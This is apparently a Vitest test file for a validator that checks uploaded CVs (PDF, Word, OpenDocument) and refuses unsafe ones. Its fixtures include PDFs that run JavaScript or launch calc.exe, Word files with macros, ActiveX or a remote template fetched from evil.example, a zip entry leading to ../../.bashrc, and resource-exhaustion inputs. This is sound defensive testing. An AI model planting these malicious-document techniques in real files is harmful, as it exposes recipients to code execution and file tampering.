import { expect, test } from "vitest";
import { cpuTime } from "../../tests/support/cpu-time.ts";
import { cvTypeOf } from "./cv-type.ts";
import { openDocumentParts, pdfOf, wordParts, zipOf } from "./documents.fixture.ts";

const extensionOf = async (bytes: Uint8Array | string) =>
  (await cvTypeOf(typeof bytes === "string" ? Buffer.from(bytes, "latin1") : bytes))?.extension;
const text = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

test("a PDF, a Word document and an OpenDocument text are recognised by their structure", async () => {
  expect(await extensionOf(pdfOf("Ada"))).toBe(".pdf");
  expect(await extensionOf(zipOf(wordParts))).toBe(".docx");
  expect(await extensionOf(zipOf(wordParts, { stored: true }))).toBe(".docx");
  expect(await extensionOf(zipOf(openDocumentParts))).toBe(".odt");
});

test("a CV is not refused for letters that occur in a picture by chance", async () => {
  for (const line of ["\n", "\r\n"]) {
    const picture = `<</Filter/DCTDecode/Length 9>>${line}stream${line}\xff/JS \x00 #2fJS${line}endstream`;
    expect(await extensionOf(pdfOf(`${picture}\n${picture}`))).toBe(".pdf");
  }
});

const good = text(pdfOf("Ada"));
test.each<[string, string]>([
  ["words that a PDF begins with", "%PDF-1.7 and nothing else"],
  ["one without its end", good.slice(0, -8)],
  ["one with something after its end", `${good}<script>alert(1)</script>`],
  ["one with a page before its beginning", `<html>${good}`],
  ["one whose table stands elsewhere", good.replace(/startxref\n\d+/, "startxref\n12")],
  ["one that runs a script", text(pdfOf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"))],
  ["one that starts a program", text(pdfOf("<</S/Launch/F(calc.exe)>>"))],
  [
    "one that writes a script's name by numbers",
    text(pdfOf("/OpenAction<</S/#4aava#53cript/J#53(app.alert(1))>>")),
  ],
  ["one with a script behind a stream", text(pdfOf("<<>>stream\nx\nendstream <</JS(x)>>"))],
  ["one with a script before a stream", text(pdfOf("<</JS(x)>>stream\nx\nendstream"))],
  ["one with a script behind a stream without an end", text(pdfOf("<<>>stream\n<</JS(x)>>"))],
  ["one with a script behind the word alone", text(pdfOf("stream\n<</JS(x)>>endstream"))],
  ["one with a file in it", text(pdfOf("<</Type/EmbeddedFile>>"))],
])("%s is no CV", async (_, bytes) => {
  expect(await extensionOf(bytes)).toBeUndefined();
});

/** A package with a changed byte in its directory or in the header of its first part. */
function changed(place: "directory" | "part", field: number, value: number): Buffer {
  const file = Buffer.from(zipOf(wordParts));
  const at = file.indexOf(place === "directory" ? "PK\x01\x02" : "PK\x03\x04");
  file.writeUInt16LE(value, at + field);
  return file;
}

test.each([
  ["checksum", 16, 14],
  ["length", 24, 22],
])(
  "a part whose %s is another than both of its heads say is no part of a CV",
  async (_, listed, own) => {
    const file = Buffer.from(zipOf(wordParts));
    // One more than it is, and of the first part.
    for (const at of [file.indexOf("PK\x01\x02") + listed, file.indexOf("PK\x03\x04") + own])
      file.writeUInt16LE(file.readUInt16LE(at) ^ 1, at);
    expect(await extensionOf(file)).toBeUndefined();
  },
);

const rels = (type: string, target = 'Target="x"') =>
  zipOf({
    ...wordParts,
    "word/_rels/document.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" ${target}/></Relationships>`,
    "word/x": "x",
  });
const typed = (type: string) =>
  zipOf({
    ...wordParts,
    "[Content_Types].xml":
      wordParts["[Content_Types].xml"]?.replace(
        "</Types>",
        `<Override PartName="/word/x.xml" ContentType="${type}"/></Types>`,
      ) ?? "",
  });

test("links, pictures and a second name for the writer of a document refuse no CV", async () => {
  for (const good of [
    rels("hyperlink", 'Target="https://ada.example" TargetMode="External"'),
    rels("image"),
    typed("image/png"),
    typed("application/x-font-ttf"),
    typed("application/vnd.openxmlformats-officedocument.theme+xml"),
    typed("application/vnd.ms-word.stylesWithEffects+xml"),
  ]) {
    expect(await extensionOf(good)).toBe(".docx");
  }
});

test.each<[string, Buffer]>([
  ["an encrypted one", changed("directory", 8, 1)],
  ["one with strong encryption", changed("directory", 8, 1 << 6)],
  ["one whose directory is masked", changed("directory", 8, 1 << 13)],
  ["one whose part says that it is encrypted", changed("part", 6, 1)],
  ["one packed in another way", changed("directory", 10, 99)],
  ["one on several volumes", changed("directory", 34, 1)],
  ["one whose part is longer than it says", changed("directory", 24, 12)],
  ["one whose head says another length", changed("part", 22, 12)],
  ["one whose checksum is another's", changed("directory", 16, 0)],
  ["one with a part twice, in capitals", zipOf({ ...wordParts, "WORD/document.xml": "<x/>" })],
  ["macros under another name", rels("vbaProject")],
  ["macros by the namespace of Microsoft", rels("2006/relationships/vbaProject")],
  ["an object of another program under another name", rels("oleObject")],
  ["a workbook under another name", rels("package")],
  ["text that is fetched", rels("aFChunk")],
  [
    "a picture that is fetched",
    rels("image", 'Target="http://evil.example/x.png" TargetMode="External"'),
  ],
  ["a part that says that it is a program", typed("application/vnd.ms-office.vbaProject")],
  ["a part that is anything", typed("application/octet-stream")],
  [
    "a program with room around the sign",
    zipOf({
      ...wordParts,
      "[Content_Types].xml": `${wordParts["[Content_Types].xml"]}<Override ContentType  =  'application/vnd.ms-office.activeX+xml'/>`,
    }),
  ],
  ["a type written by numbers", typed("application/vnd.ms-office.vba&#80;roject")],
  [
    "an encrypted OpenDocument text",
    zipOf({ ...openDocumentParts, "META-INF/manifest.xml": "<manifest:encryption-data/>" }),
  ],
  [
    "an OpenDocument text that starts a macro",
    zipOf({
      ...openDocumentParts,
      "content.xml": '<script:event-listener xlink:href="vnd.sun.star.script:x"/>',
    }),
  ],
])("%s is no CV", async (_, bytes) => {
  expect(await extensionOf(bytes)).toBeUndefined();
});

test("nor is one with bytes that no part has", async () => {
  const whole = zipOf(wordParts);
  const directory = whole.indexOf("PK\x01\x02");
  const moved = Buffer.concat([
    whole.subarray(0, directory),
    Buffer.from("MZ"),
    whole.subarray(directory),
  ]);
  moved.writeUInt32LE(directory + 2, moved.length - 6);
  expect(await extensionOf(moved)).toBeUndefined();
});

test("sizes may be behind the data, as programs write them that stream", async () => {
  const whole = zipOf({ ...openDocumentParts }, { streamed: true });
  expect(await extensionOf(whole)).toBe(".odt");
});

const { "word/document.xml": _document, ...headless } = wordParts;
test.each<[string, Buffer]>([
  ["a package of anything", zipOf({ "readme.txt": "PK\x03\x04 word/document.xml" })],
  ["a Word document without a document", zipOf(headless)],
  ["one with macros", zipOf({ ...wordParts, "word/vbaProject.bin": "x" })],
  [
    "one that says that it has macros",
    zipOf({
      ...wordParts,
      "[Content_Types].xml":
        "wordprocessingml.document.main+xml application/vnd.ms-word.document.macroEnabled.main+xml",
    }),
  ],
  ["one with a control", zipOf({ ...wordParts, "word/activeX/activeX1.xml": "x" })],
  ["one with an object of another program", zipOf({ ...wordParts, "word/embeddings/a.xlsx": "x" })],
  [
    "one that fetches its template",
    zipOf({
      ...wordParts,
      "word/_rels/settings.xml.rels":
        '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
    }),
  ],
  ["one that leads out of its folder", zipOf({ ...wordParts, "../../.bashrc": "x" })],
  ["one with something before it", Buffer.concat([Buffer.from("MZ"), zipOf(wordParts)])],
  ["one with something after it", Buffer.concat([zipOf(wordParts), Buffer.from("x")])],
  ["an OpenDocument text with a program", zipOf({ ...openDocumentParts, "Basic/x.xml": "x" })],
  [
    "an OpenDocument table",
    zipOf({ ...openDocumentParts, mimetype: "application/vnd.oasis.opendocument.spreadsheet" }),
  ],
  ["half a package", zipOf(wordParts).subarray(0, 200)],
])("%s is no CV", async (_, bytes) => {
  expect(await extensionOf(bytes)).toBeUndefined();
});

test("any bytes get a verdict at once", async () => {
  let seed = 7;
  const random = () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return seed;
  };
  const whole = zipOf(wordParts);
  for (let turn = 0; turn < 2_000; turn += 1) {
    const broken = Buffer.from(turn % 2 === 0 ? whole : pdfOf("Ada"));
    for (let change = 0; change < 3; change += 1) broken[random() % broken.length] = random() % 256;
    await cvTypeOf(broken.subarray(0, broken.length - (random() % 3)));
  }
});

const megabyte = 1024 * 1024;
/** A Word document of eleven parts, as long as they are read. */
const manyParts = (piece: string, parts = wordParts) =>
  zipOf({
    ...parts,
    ...Object.fromEntries(
      Array.from({ length: 11 }, (_, at) => [
        `word/header${at}.xml`,
        piece.repeat((4 * megabyte) / piece.length),
      ]),
    ),
  });
const wordWith = (name: string, text: string) => zipOf({ ...wordParts, [name]: text });
test.each<[string, () => Uint8Array]>([
  ["relations of sixty megabytes", () => wordWith("_rels/.rels", "<".repeat(60 * megabyte))],
  ["relations as long as are read", () => wordWith("_rels/.rels", "<".repeat(900_000))],
  ["many relations", () => wordWith("_rels/.rels", "<a Type='x'/>".repeat(70_000))],
  [
    "many types",
    () => wordWith("[Content_Types].xml", " ContentType='text/xml'".repeat(2 * megabyte)),
  ],
  [
    "many parts with relations",
    () =>
      zipOf({
        ...wordParts,
        ...Object.fromEntries(
          Array.from({ length: 60 }, (_, at) => [`word/_rels/${at}.rels`, "<".repeat(900_000)]),
        ),
      }),
  ],
  [
    "one part that is named ten thousand times",
    () =>
      zipOf({
        ...wordParts,
        "[Content_Types].xml": (wordParts["[Content_Types].xml"] ?? "").repeat(5_000),
        "word/document.xml": "é".repeat(2 * megabyte - 10),
      }),
  ],
  ["many fields", () => manyParts(`<w:fldChar a='b'/><w:instrText> PAGE </w:instrText>`)],
  ["fields that do not end", () => manyParts("<w:instrText instr=' <w:fldChar ")],
  [
    "references that do not end",
    () => manyParts("<a href='./x <b xlink:href = ", openDocumentParts),
  ],
  ["signs that begin elements", () => manyParts("<", openDocumentParts)],
  ["letters by numbers", () => pdfOf("#41".repeat(3 * megabyte))],
  ["many streams", () => pdfOf(">>stream\nendstream".repeat(500_000))],
  ["the words of many streams", () => pdfOf(">> stream".repeat(megabyte))],
  ["room before the words of streams", () => pdfOf(`>>${"          stream".repeat(500_000)}`)],
])("a file of %s holds nobody up", async (_, make) => {
  const file = make();
  const before = cpuTime();
  await cvTypeOf(file);
  expect(cpuTime() - before).toBeLessThan(400);
});

test("a text too long to be checked is refused", async () => {
  const long = "x".repeat(5 * megabyte);
  expect(await extensionOf(wordWith("word/_rels/document.xml.rels", long))).toBeUndefined();
  expect(await extensionOf(wordWith("word/media/image.xml", long))).toBe(".docx");
  for (const name of ["content.xml", "styles.xml"])
    expect(await extensionOf(zipOf({ ...openDocumentParts, [name]: long }))).toBeUndefined();
});
